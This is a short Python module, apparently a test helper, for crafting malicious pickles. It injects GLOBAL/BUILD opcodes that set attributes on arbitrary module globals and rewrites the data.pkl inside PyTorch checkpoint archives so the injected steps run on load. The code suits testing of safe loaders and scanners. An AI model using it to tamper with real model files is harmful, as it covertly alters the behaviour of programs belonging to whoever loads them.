"""Hand-made malicious pickles that change what their reader returns; no pickler writes such."""
import pickle
import zipfile
from pathlib import Path


def setting(module: str, name: str, **attributes) -> bytes:
    """Return instructions that set attributes of a global (by BUILD, with a state for slots) and leave nothing."""
    state = pickle.dumps((None, attributes), protocol=2)[2:-1]  # without its header and its end
    return f"c{module}\n{name}\n".encode() + state + b"b0"


def spoilt(content: bytes, *instructions: bytes) -> bytes:
    """Return a pickle that follows the instructions, and is the given one otherwise."""
    start = 2  # of the instructions, after the protocol
    return content[:start] + b"".join(instructions) + content[start:]


def spoil_archive(path: Path, *instructions: bytes) -> None:
    """Let the pickle in a file of torch's follow the instructions first."""
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w") as archive:
        for info, content in members:
            archive.writestr(info.filename, spoilt(content, *instructions) if info.filename.endswith("/data.pkl")
                             else content)
